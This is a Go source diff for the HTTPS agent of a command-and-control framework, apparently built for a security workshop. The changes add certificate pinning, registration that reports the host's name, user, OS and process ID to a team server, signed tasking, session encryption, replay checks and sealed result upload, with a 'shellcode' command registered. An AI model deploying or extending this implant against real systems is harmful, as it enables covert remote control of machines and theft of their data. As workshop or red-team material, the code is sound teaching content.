@@ -3,27 +3,54 @@ package agent
 import (
 	"bytes"
 	"context"
-	"crypto/tls"
+	"crypto/ed25519"
+	"encoding/base64"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
 	"log"
 	"net/http"
+	"os"
+	"os/user"
+	"runtime"
+	"time"
 	"workshop3_dev/internals/models"
+	"workshop3_dev/internals/replay"
+	"workshop3_dev/internals/session"
+	"workshop3_dev/internals/signing"
 )
 
+// ErrNotRegistered is returned when the server does not recognise the Agent's ID
+var ErrNotRegistered = errors.New("agent is not registered with server")
+
+// replayWindow is how far a server response's timestamp may drift from our clock
+const replayWindow = 5 * time.Minute
+
 // Agent implements the Communicator interface for HTTPS
 type Agent struct {
 	serverAddr           string
+	scheme               string // "https", or "http" when talking to a plain lab listener
+	agentID              string // Assigned by the server on registration
+	sessionKey           []byte // Agreed with the server on registration, seals tasks and results
 	client               *http.Client
+	taskingKey           ed25519.PublicKey           // Only jobs signed by the matching engagement key are run
 	commandOrchestrators map[string]OrchestratorFunc // Maps commands to their keywords
+	responseNonces       *replay.Cache               // Nonces of recent server responses
+	executedJobs         *replay.Cache               // IDs of jobs already run, kept until they expire
 }
 
-// NewAgent creates a new HTTPS agent
-func NewAgent(serverAddr string) *Agent {
-	// Create TLS config that accepts self-signed certificates
-	tlsConfig := &tls.Config{
-		InsecureSkipVerify: true,
+// NewAgent creates a new HTTPS agent that only talks to a server matching the pinned certificate,
+// and only runs jobs signed with the private half of taskingKey
+func NewAgent(serverAddr string, transport TransportConfig, taskingKey ed25519.PublicKey) (*Agent, error) {
+	if len(taskingKey) != ed25519.PublicKeySize {
+		return nil, errors.New("a tasking public key is required")
+	}
+
+	// Create TLS config that checks the server against our pin
+	tlsConfig, err := newTLSConfig(transport)
+	if err != nil {
+		return nil, err
 	}
 
 	// Create HTTP client with custom TLS config
@@ -35,25 +62,120 @@ func NewAgent(serverAddr string) *Agent {
 
 	agent := &Agent{
 		serverAddr:           serverAddr,
+		scheme:               transport.Protocol,
 		client:               client,
+		taskingKey:           taskingKey,
 		commandOrchestrators: make(map[string]OrchestratorFunc), // WE NEED TO INSTANTIATE
+		responseNonces:       replay.NewCache(),
+		executedJobs:         replay.NewCache(),
 	}
 
 	registerCommands(agent) // NOT YET IMPLEMENT - register individual commands
 
-	return agent
+	return agent, nil
+}
+
+// ID returns the identity assigned to the Agent by the server, empty until registered
+func (agent *Agent) ID() string {
+	return agent.agentID
+}
+
+// Register announces the Agent and its sleep settings to the server, agrees a session key with it
+// and stores the ID it is assigned
+func (agent *Agent) Register(ctx context.Context, delay time.Duration, jitter int) error {
+	// Construct the URL
+	url := fmt.Sprintf("%s://%s/register", agent.scheme, agent.serverAddr)
+
+	// A fresh key pair for every registration, so an old session key is never reused
+	agentKey, err := session.GenerateKey()
+	if err != nil {
+		return fmt.Errorf("generating session key: %w", err)
+	}
+	agentPublic := agentKey.PublicKey().Bytes()
+
+	regReq := models.RegisterRequest{
+		AgentID:      agent.agentID, // Lets the server re-adopt us if it lost its registry
+		PublicKey:    agentPublic,
+		OS:           runtime.GOOS,
+		Arch:         runtime.GOARCH,
+		PID:          os.Getpid(),
+		SleepSeconds: delay.Seconds(),
+		Jitter:       jitter,
+	}
+	regReq.Hostname, _ = os.Hostname()
+	if currentUser, err := user.Current(); err == nil {
+		regReq.Username = currentUser.Username
+	}
+
+	reqBytes, err := json.Marshal(regReq)
+	if err != nil {
+		return fmt.Errorf("marshaling registration: %w", err)
+	}
+
+	// Create POST request
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(reqBytes))
+	if err != nil {
+		return fmt.Errorf("creating request: %w", err)
+	}
+	req.Header.Set("Content-Type", "application/json")
+
+	// Send request
+	resp, err := agent.client.Do(req)
+	if err != nil {
+		return fmt.Errorf("sending request: %w", err)
+	}
+	defer resp.Body.Close()
+
+	// Check status code
+	if resp.StatusCode != http.StatusOK {
+		body, _ := io.ReadAll(resp.Body)
+		return fmt.Errorf("server returned status %d: %s", resp.StatusCode, body)
+	}
+
+	var regResp models.RegisterResponse
+	if err := json.NewDecoder(resp.Body).Decode(&regResp); err != nil {
+		return fmt.Errorf("unmarshaling response: %w", err)
+	}
+
+	if regResp.AgentID == "" {
+		return fmt.Errorf("server did not assign an agent ID")
+	}
+
+	// Only our own team server can answer the key exchange
+	if err := signing.VerifyRegistration(agent.taskingKey, &regResp, agentPublic); err != nil {
+		return fmt.Errorf("refusing registration: %w", err)
+	}
+
+	sessionKey, err := session.DeriveKey(agentKey, regResp.PublicKey, agentPublic, regResp.PublicKey)
+	if err != nil {
+		return fmt.Errorf("completing key exchange: %w", err)
+	}
+
+	agent.agentID = regResp.AgentID
+	agent.sessionKey = sessionKey
+	log.Printf("Registered with server as %s", agent.agentID)
+
+	return nil
 }
 
 // Send implements Communicator.Send for HTTPS
 func (agent *Agent) Send(ctx context.Context) (*models.ServerResponse, error) {
 	// Construct the URL
-	url := fmt.Sprintf("https://%s/", agent.serverAddr)
+	url := fmt.Sprintf("%s://%s/", agent.scheme, agent.serverAddr)
 
 	// Create GET request
 	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
 	if err != nil {
 		return nil, fmt.Errorf("creating request: %w", err)
 	}
+	req.Header.Set(models.AgentIDHeader, agent.agentID)
+
+	// Prove the check-in is ours, the ID alone would let anyone who knows it collect our tasks
+	proof, err := agent.checkInProof()
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set(models.CheckInHeader, proof)
 
 	// Send request
 	resp, err := agent.client.Do(req)
@@ -62,6 +184,11 @@ func (agent *Agent) Send(ctx context.Context) (*models.ServerResponse, error) {
 	}
 	defer resp.Body.Close()
 
+	// The server has no record of us, so we need to register again
+	if resp.StatusCode == http.StatusUnauthorized {
+		return nil, ErrNotRegistered
+	}
+
 	// Check status code
 	if resp.StatusCode != http.StatusOK {
 		body, _ := io.ReadAll(resp.Body)
@@ -74,16 +201,61 @@ func (agent *Agent) Send(ctx context.Context) (*models.ServerResponse, error) {
 		return nil, fmt.Errorf("reading response: %w", err)
 	}
 
+	// Unmarshal into Envelope
+	var envelope models.Envelope
+	if err := json.Unmarshal(body, &envelope); err != nil {
+		return nil, fmt.Errorf("unmarshaling response: %w", err)
+	}
+
+	// Open it with our session key
+	plaintext, err := session.Open(agent.sessionKey, agent.agentID, session.ToAgent, envelope)
+	if err != nil {
+		return nil, fmt.Errorf("opening response: %w", err)
+	}
+
 	// Unmarshal into ServerResponse
 	var serverResp models.ServerResponse
-	if err := json.Unmarshal(body, &serverResp); err != nil {
+	if err := json.Unmarshal(plaintext, &serverResp); err != nil {
 		return nil, fmt.Errorf("unmarshaling response: %w", err)
 	}
 
+	// Refuse a response we have already seen, or one issued outside the window
+	now := time.Now()
+	if err := replay.CheckFresh(serverResp.IssuedAt, now, replayWindow); err != nil {
+		return nil, fmt.Errorf("refusing response: %w", err)
+	}
+	if err := agent.responseNonces.Remember(serverResp.Nonce, serverResp.IssuedAt.Add(replayWindow), now); err != nil {
+		return nil, fmt.Errorf("refusing response: %w", err)
+	}
+
 	// Return the parsed response
 	return &serverResp, nil
 }
 
+// checkInProof seals a fresh CheckIn with our session key, for the CheckInHeader
+func (agent *Agent) checkInProof() (string, error) {
+	checkIn, err := json.Marshal(models.CheckIn{
+		AgentID:  agent.agentID,
+		Nonce:    replay.NewNonce(),
+		IssuedAt: time.Now().UTC(),
+	})
+	if err != nil {
+		return "", fmt.Errorf("marshaling check-in: %w", err)
+	}
+
+	envelope, err := session.Seal(agent.sessionKey, agent.agentID, session.CheckIn, checkIn)
+	if err != nil {
+		return "", fmt.Errorf("sealing check-in: %w", err)
+	}
+
+	envelopeBytes, err := json.Marshal(envelope)
+	if err != nil {
+		return "", fmt.Errorf("marshaling sealed check-in: %w", err)
+	}
+
+	return base64.StdEncoding.EncodeToString(envelopeBytes), nil
+}
+
 func registerCommands(agent *Agent) {
 	agent.commandOrchestrators["shellcode"] = (*Agent).orchestrateShellcode
 	// Register other commands here in the future
@@ -93,12 +265,25 @@ func registerCommands(agent *Agent) {
 
 func (agent *Agent) SendResult(resultData []byte) error {
 
-	targetURL := fmt.Sprintf("https://%s/results", agent.serverAddr)
+	targetURL := fmt.Sprintf("%s://%s/results", agent.scheme, agent.serverAddr)
 
 	log.Printf("|RETURN RESULTS|-> Sending %d bytes of results via POST to %s", len(resultData), targetURL)
 
+	// SEAL THE RESULTS WITH OUR SESSION KEY
+	envelope, err := session.Seal(agent.sessionKey, agent.agentID, session.ToServer, resultData)
+	if err != nil {
+		log.Printf("|❗ERR SendResult| Failed to seal results: %v", err)
+		return fmt.Errorf("failed to seal results: %w", err)
+	}
+
+	envelopeBytes, err := json.Marshal(envelope)
+	if err != nil {
+		log.Printf("|❗ERR SendResult| Failed to marshal sealed results: %v", err)
+		return fmt.Errorf("failed to marshal sealed results: %w", err)
+	}
+
 	// CREATE THE HTTP POST REQUEST
-	req, err := http.NewRequest(http.MethodPost, targetURL, bytes.NewReader(resultData))
+	req, err := http.NewRequest(http.MethodPost, targetURL, bytes.NewReader(envelopeBytes))
 	if err != nil {
 		log.Printf("|❗ERR SendResult| Failed to create results request: %v", err)
 		return fmt.Errorf("failed to create http results request: %w", err)
@@ -106,6 +291,7 @@ func (agent *Agent) SendResult(resultData []byte) error {
 
 	// SET THE HEADERS
 	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set(models.AgentIDHeader, agent.agentID)
 
 	// EXECUTE THE REQUEST
 	resp, err := agent.client.Do(req)